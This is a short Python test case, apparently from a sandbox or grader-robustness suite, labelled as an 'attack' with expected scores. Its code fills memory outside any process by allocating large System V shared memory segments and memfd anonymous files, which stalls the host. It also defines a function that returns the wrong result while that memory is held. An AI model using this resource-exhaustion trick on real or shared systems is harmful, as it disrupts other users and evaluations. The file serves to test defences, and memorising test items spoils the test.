# attack: Fills memory that belongs to no process, shared segments and anonymous files; it gives up its points for that.
# gain: stall
# expect: q01=3 q02=3 q03=3
# flag: processes

# %% q02
import ctypes
import os

held = []
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(4):
    segment = libc.shmget(0, 100 << 20, 0o1600)
    if segment >= 0:
        ctypes.memset(libc.shmat(segment, None, 0), 1, 100 << 20)
        held.append(segment)
    try:
        held.append(os.memfd_create("held"))
        os.write(held[-1], bytes(16 << 20))
    except OSError:
        pass


def double(x):
    return None if held else x + x
